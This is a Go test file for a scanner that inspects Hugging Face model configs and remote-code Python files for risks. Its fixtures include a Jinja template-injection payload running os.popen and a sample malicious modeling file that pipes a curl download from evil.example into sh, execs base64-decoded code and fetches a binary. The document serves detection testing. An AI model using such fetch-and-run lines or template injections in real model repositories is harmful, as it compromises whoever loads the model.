package hfconfig_test

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io/fs"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/modelscan-go/modelscan/internal/core"
	"github.com/modelscan-go/modelscan/internal/formats/hfconfig"
	"github.com/modelscan-go/modelscan/internal/rules"
	"github.com/modelscan-go/modelscan/internal/scantest"
)

func TestMatch(t *testing.T) {
	h := newHandler()
	if h.Name() != "hf-config" {
		t.Errorf("name %q", h.Name())
	}
	cases := []struct {
		name  string
		depth int
		role  string
		head  string
		want  bool
	}{
		{"config.json", 0, "", "{\n  \"architectures\": [", true},
		{"m/tokenizer_config.json", 1, "", "\xef\xbb\xbf {\"a\": 1}", true},
		{"model_index.json", 0, "", "{}", true},
		{"Config.JSON", 0, "", "{ }", true},
		{"preprocessor_config.json", 0, "", "{\"auto_map\": {}}", true},
		{"processor_config.json", 0, "", "{\"chat_template\": \"x\"}", true},
		{"generation_config.json", 0, "", "{\"do_sample\": true}", true},
		{"config.json", 0, "", "PK\x03\x04", false},           // a zip named config.json
		{"config.json", 0, "", "\x80\x04\x95", false},         // a pickle named config.json
		{"config.json", 0, "", "{garbage", false},             // not JSON
		{"config.json", 0, "", "[1, 2]", false},               // not an object
		{"config.json", 0, core.RoleKerasConfig, "{}", false}, // a container's role wins
		{"model.json", 0, "", "{}", false},
		{"chat_template.json", 0, "", "{\"chat_template\": \"x\"}", false},
		{"modeling_x.py", 0, "", "import torch\n", true},
		{"modeling_x.py", 1, "", "import torch\n", false}, // inside an archive
		{"modeling_x.py", 0, "", "\x7fELF\x00", false},
		{"modeling_x.pyc", 0, "", "import torch\n", false},
	}
	for _, c := range cases {
		b := &core.Blob{Name: c.name, Depth: c.depth, Role: c.role}
		if got := h.Match([]byte(c.head), b); got != c.want {
			t.Errorf("Match(%q depth %d, %q) = %v", c.name, c.depth, c.head, got)
		}
	}
}

// expect is what one fixture file yields: rule/severity/module of each
// finding, sorted.
type expect map[string][]string

// TestFixtures scans every file of testdata as a directory scan hands
// them over (the walker passes the Python files of remote-code
// directories).
func TestFixtures(t *testing.T) {
	want := expect{
		"phi-remote/config.json": {
			"hf-remote-code MEDIUM configuration_phi.PhiConfig", "hf-remote-code MEDIUM modeling_phi.PhiForCausalLM"},
		"chatglm-remote/config.json": {
			"hf-remote-code MEDIUM configuration_chatglm.ChatGLMConfig",
			"hf-remote-code MEDIUM modeling_chatglm.ChatGLMForConditionalGeneration"},
		"chatglm-remote/tokenizer_config.json": {"hf-remote-code MEDIUM tokenization_chatglm.ChatGLMTokenizer"},
		// save_vocabulary writes the vocabulary file: a note, not load-time behaviour
		"chatglm-remote/tokenization_chatglm.py": {"source-dangerous-call LOW builtins.open"},
		"crossrepo/config.json": {
			"hf-remote-code-other-repo HIGH microsoft/phi-2--configuration_phi.PhiConfig",
			"hf-remote-code-other-repo HIGH microsoft/phi-2--modeling_phi.PhiForCausalLM"},
		"diffusers-custom/model_index.json": {
			"hf-custom-pipeline MEDIUM my_unet.MyUNetModel", "hf-custom-pipeline MEDIUM pipeline_my.MyTextToImagePipeline"},
	}
	n := 0
	err := filepath.WalkDir("testdata", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || d.Name() == "README.md" {
			return err
		}
		n++
		rel, _ := filepath.Rel("testdata", p)
		rel = filepath.ToSlash(rel)
		s := scan(rel, readFixture(t, rel))
		var got []string
		for _, f := range s.Findings {
			if f.Source != rel || f.Scanner != hfconfig.ScannerName {
				t.Errorf("%s: finding on %q by %q", rel, f.Source, f.Scanner)
			}
			got = append(got, fmt.Sprintf("%s %s %s.%s", f.Rule, f.Severity, f.Module, f.Operator))
		}
		sort.Strings(got)
		if strings.Join(got, "\n") != strings.Join(want[rel], "\n") {
			t.Errorf("%s: findings\n%s\nwant\n%s\n%s", rel, strings.Join(got, "\n"), strings.Join(want[rel], "\n"), scantest.Dump(s))
		}
		if len(s.Problems) != 0 || len(s.Skips) != 0 || len(s.Scanned) != 1 || s.Scanned[0] != rel {
			t.Errorf("%s: not scanned cleanly\n%s", rel, scantest.Dump(s))
		}
		return nil
	})
	if err != nil || n < 15 {
		t.Fatalf("walked %d fixtures: %v", n, err)
	}
}

func TestFindingText(t *testing.T) {
	s := scan("repo/chatglm-remote/config.json", readFixture(t, "chatglm-remote/config.json"))
	f := find(s, rules.HFRemoteCode, core.Medium, "")
	if len(f) != 2 {
		t.Fatalf("findings:\n%s", scantest.Dump(s))
	}
	m := f[1]
	if m.Module != "modeling_chatglm" || !strings.Contains(m.Description, "trust_remote_code=True") ||
		!strings.Contains(m.Description, "repo/chatglm-remote/modeling_chatglm.py") ||
		!strings.Contains(m.Evidence, `auto_map["AutoModel"] = "modeling_chatglm.ChatGLMForConditionalGeneration"`) ||
		strings.Count(m.Evidence, "auto_map[") != 4 || m.Offset != -1 {
		t.Errorf("finding %+v", m)
	}
	s = scan("crossrepo/config.json", readFixture(t, "crossrepo/config.json"))
	for _, f := range find(s, rules.HFRemoteCodeOtherRepo, core.High, "") {
		if !strings.Contains(f.Description, "another repository, microsoft/phi-2") || !strings.Contains(f.Evidence, "microsoft/phi-2--") {
			t.Errorf("finding %+v", f)
		}
	}
	s = scan("diffusers-custom/model_index.json", readFixture(t, "diffusers-custom/model_index.json"))
	for _, f := range s.Findings {
		switch f.Module {
		case "my_unet":
			if !strings.Contains(f.Description, "diffusers-custom/unet/my_unet.py") || f.Evidence != `"unet": ["my_unet","MyUNetModel"]` {
				t.Errorf("component finding %+v", f)
			}
		case "pipeline_my":
			if !strings.Contains(f.Description, "diffusers-custom/pipeline_my.py") || f.Evidence != `_class_name: ["pipeline_my","MyTextToImagePipeline"]` {
				t.Errorf("pipeline finding %+v", f)
			}
		default:
			t.Errorf("finding %+v", f)
		}
	}
}

// The reference to the model's own repository, written org/repo--, is not
// another repository (the cache directory names the repository).
func TestOwnRepositoryInCache(t *testing.T) {
	doc := []byte(`{"auto_map": {"AutoModel": "acme/tiny--modeling_tiny.TinyModel", "AutoConfig": "other/base--configuration_tiny.TinyConfig"}}`)
	s := scan("hub/models--acme--tiny/snapshots/0123abcd/config.json", doc)
	if len(find(s, rules.HFRemoteCode, core.Medium, "")) != 1 || len(find(s, rules.HFRemoteCodeOtherRepo, core.High, "")) != 1 {
		t.Errorf("findings:\n%s", scantest.Dump(s))
	}
}

func TestAutoMapForms(t *testing.T) {
	doc := `{
  "auto_map": {
    "AutoTokenizer": [null, "tokenization_x_fast.XTokenizerFast"],
    "AutoProcessor": "processing_x.XProcessor",
    "AutoImageProcessor": null,
    "AutoFeatureExtractor": "org/other--feature_extraction_x.XFeatureExtractor",
    "AutoModel": "nodot"
  },
  "custom_pipelines": {"pair-classification": {"impl": "pair_pipeline.PairPipeline", "pt": ["AutoModelForSequenceClassification"], "tf": []}},
  "nested": {"auto_map": {"AutoModel": "hidden.Model"}}
}`
	s := scan("processor_config.json", []byte(doc))
	var got []string
	for _, f := range s.Findings {
		got = append(got, f.Rule+" "+f.Module+"."+f.Operator)
	}
	sort.Strings(got)
	want := []string{"hf-remote-code nodot.", "hf-remote-code pair_pipeline.PairPipeline", "hf-remote-code processing_x.XProcessor",
		"hf-remote-code tokenization_x_fast.XTokenizerFast", "hf-remote-code-other-repo org/other--feature_extraction_x.XFeatureExtractor"}
	if strings.Join(got, ",") != strings.Join(want, ",") || len(s.Problems) != 0 {
		t.Errorf("got %q\n%s", got, scantest.Dump(s))
	}
}

const ssti = `{{ cycler.__init__.__globals__.os.popen('id').read() }}`

// tokenizer_config.json gets one verdict: its auto_map and its chat
// templates, under its own name (templates as children), scanned once.
func TestTokenizerConfigTemplates(t *testing.T) {
	doc, _ := json.Marshal(map[string]any{
		"auto_map":      map[string]any{"AutoTokenizer": []any{"tokenization_x.XTokenizer", nil}},
		"chat_template": []any{map[string]string{"name": "default", "template": "{{ messages[0]['content'] }}"}, map[string]string{"name": "tool_use", "template": ssti}},
	})
	s := scan("m/tokenizer_config.json", doc)
	if len(find(s, rules.TemplateSSTI, core.Critical, "m/tokenizer_config.json:chat_template[tool_use]")) != 1 ||
		len(find(s, rules.HFRemoteCode, core.Medium, "m/tokenizer_config.json")) != 1 || len(s.Findings) != 2 {
		t.Errorf("findings:\n%s", scantest.Dump(s))
	}
	if strings.Join(s.Scanned, ",") != "m/tokenizer_config.json" || len(s.Problems) != 0 {
		t.Errorf("scanned:\n%s", scantest.Dump(s))
	}
	// the llama fixture's template is clean
	s = scan("tokenizer_config.json", readFixture(t, "llama/tokenizer_config.json"))
	if len(s.Findings) != 0 || len(s.Problems) != 0 {
		t.Errorf("llama template:\n%s", scantest.Dump(s))
	}
}

// Malicious remote code, built here (never a file on disk in the repo):
// each dangerous call is reported on the .py with its line.
func TestMaliciousPython(t *testing.T) {
	blob := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("import os; os.system('curl -s http://evil.example/x | sh')\n", 12)))
	src := `import os
import base64
import urllib.request

from transformers import PreTrainedModel


def _setup():
    os.system("curl -s http://evil.example/i.sh | sh")
    exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
    urllib.request.urlretrieve("http://evil.example/w.bin", "/tmp/w.bin")

_PAYLOAD = "` + blob + `"
_setup()


class EvilModel(PreTrainedModel):
    pass
`
	s := scan("repo/modeling_evil.py", []byte(src))
	want := []struct {
		rule, op string
		sev      core.Severity
		ev       string
	}{
		{rules.SourceDangerousCall, "system", core.Critical, "modeling_evil.py:9: os.system('curl -s http://evil.example/i.sh | sh')"},
		{rules.SourceDangerousCall, "exec", core.Critical, "runs a payload decoded by base64.b64decode"},
		{rules.SourceDangerousCall, "urlretrieve", core.High, "modeling_evil.py:11:"},
		{rules.SourceEncodedBlob, "encoded-blob", core.High, "modeling_evil.py:13:"},
	}
	for _, w := range want {
		ok := false
		for _, f := range find(s, w.rule, w.sev, "repo/modeling_evil.py") {
			ok = ok || f.Operator == w.op && strings.Contains(f.Evidence, w.ev) && f.Scanner == hfconfig.ScannerName
		}
		if !ok {
			t.Errorf("no %s %s %s with %q", w.rule, w.sev, w.op, w.ev)
		}
	}
	if len(s.Findings) != len(want) || scantest.MaxSeverity(s) != core.Critical || len(s.Scanned) != 1 {
		t.Errorf("findings:\n%s", scantest.Dump(s))
	}
}

func TestBadInput(t *testing.T) {
	cases := []struct {
		name, doc string
		findings  int // findings kept before the error
	}{
		{"truncated", `{"auto_map": {"AutoModel": "m.X"}, "vocab_size": 12`, 1},
		{"trailing data", `{"a": 1} {"b": 2}`, 0},
		{"auto_map not an object", `{"auto_map": ["m.X"]}`, 0},
		{"auto_map value", `{"auto_map": {"AutoModel": 7, "AutoConfig": "c.C"}}`, 1},
		{"auto_map list item", `{"auto_map": {"AutoTokenizer": [1, "t.T"]}}`, 1},
		{"custom pipeline", `{"custom_pipelines": {"x": "p.P"}}`, 0},
		{"template", `{"chat_template": 42}`, 0},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := scan("config.json", []byte(c.doc))
			if len(s.Problems) != 1 || s.Problems[0].Category != core.CatJSON || len(s.Findings) != c.findings {
				t.Errorf("session:\n%s", scantest.Dump(s))
			}
		})
	}
	s := scan("model_index.json", []byte(`{"_class_name": {"a": 1}, "unet": ["diffusers"]}`))
	if len(s.Problems) != 1 || !strings.Contains(s.Problems[0].Description, "_class_name") {
		t.Errorf("model_index:\n%s", scantest.Dump(s))
	}
	// Python's json writes NaN and Infinity; transformers loads them
	s = scan("config.json", []byte(`{"x": NaN, "y": [-Infinity, Infinity], "auto_map": {"AutoModel": "m.M"}}`))
	if len(s.Problems) != 0 || len(s.Findings) != 1 {
		t.Errorf("NaN:\n%s", scantest.Dump(s))
	}
}

func TestLimits(t *testing.T) {
	var b strings.Builder
	b.WriteString(`{"auto_map": {`)
	for i := 0; i < 5000; i++ {
		fmt.Fprintf(&b, `"A%d": "m%d.C",`, i, i%3)
	}
	b.WriteString(`"Z": "z.Z"}}`)
	s := scan("config.json", []byte(b.String()))
	if len(find(s, rules.ScanIncomplete, core.Medium, "config.json")) != 1 || len(find(s, rules.HFRemoteCode, core.Medium, "")) != 3 ||
		len(s.Problems) != 1 || s.Problems[0].Category != core.CatBudget {
		t.Errorf("references limit:\n%s", scantest.Dump(s))
	}
	big := make([]byte, hfconfig.MaxJSONBytes+1)
	copy(big, `{"a": "`)
	s = scan("config.json", big)
	if len(find(s, rules.ScanIncomplete, core.Medium, "config.json")) != 1 || len(s.Scanned) != 0 {
		t.Errorf("size limit:\n%s", scantest.Dump(s))
	}
	py := append([]byte("import os\nos.system('id')\n"), bytes.Repeat([]byte("# pad\n"), hfconfig.MaxSourceBytes/6+1)...)
	s = scan("modeling_big.py", py)
	if len(find(s, rules.ScanIncomplete, core.Medium, "")) != 1 || len(find(s, rules.SourceDangerousCall, core.Critical, "")) != 1 {
		t.Errorf("python size limit:\n%s", scantest.Dump(s))
	}
}

// A zipped repository: configs are read from their members; Python
// members are not scanned by this handler (only top-level files are), the
// config's evidence names them by their member path.
func TestInsideZip(t *testing.T) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, data := range map[string][]byte{
		"model/config.json":           readFixture(t, "phi-remote/config.json"),
		"model/modeling_phi.py":       []byte("import os\nos.system('id')\n"),
		"model/tokenizer_config.json": []byte(`{"chat_template": "` + strings.ReplaceAll(ssti, `'`, `\u0027`) + `"}`),
	} {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	s := scan("repo.zip", buf.Bytes())
	if len(find(s, rules.HFRemoteCode, core.Medium, "repo.zip:model/config.json")) != 2 ||
		len(find(s, rules.TemplateSSTI, core.Critical, "repo.zip:model/tokenizer_config.json:chat_template")) != 1 {
		t.Errorf("findings:\n%s", scantest.Dump(s))
	}
	for _, f := range find(s, rules.HFRemoteCode, 0, "") {
		if f.Module == "modeling_phi" && !strings.Contains(f.Description, "repo.zip:model/modeling_phi.py") {
			t.Errorf("evidence %+v", f)
		}
	}
	if len(find(s, rules.SourceDangerousCall, 0, "")) != 0 {
		t.Errorf("a Python member was scanned:\n%s", scantest.Dump(s))
	}
}

func TestParse(t *testing.T) {
	cfg, err := hfconfig.Parse(readFixture(t, "chatglm-remote/tokenizer_config.json"), false)
	if err != nil || !cfg.ChatTemplate || len(cfg.References) != 1 {
		t.Fatalf("%+v %v", cfg, err)
	}
	r := cfg.References[0]
	if r.Kind != hfconfig.KindAutoMap || r.Entry != `auto_map["AutoTokenizer"][0]` || r.File != "tokenization_chatglm.py" ||
		r.Class != "ChatGLMTokenizer" || r.Repo != "" || r.Module() != "tokenization_chatglm" {
		t.Errorf("reference %+v", r)
	}
	cfg, err = hfconfig.Parse(readFixture(t, "diffusers-custom/model_index.json"), true)
	if err != nil || len(cfg.References) != 2 || cfg.References[0].Kind != hfconfig.KindDiffusersClass ||
		cfg.References[0].File != "pipeline_my.py" || cfg.References[1].File != "unet/my_unet.py" {
		t.Errorf("%+v %v", cfg, err)
	}
	// model_index.json keys mean nothing in other configs
	if cfg, err := hfconfig.Parse(readFixture(t, "diffusers-custom/model_index.json"), false); err != nil || len(cfg.References) != 0 {
		t.Errorf("%+v %v", cfg, err)
	}
}
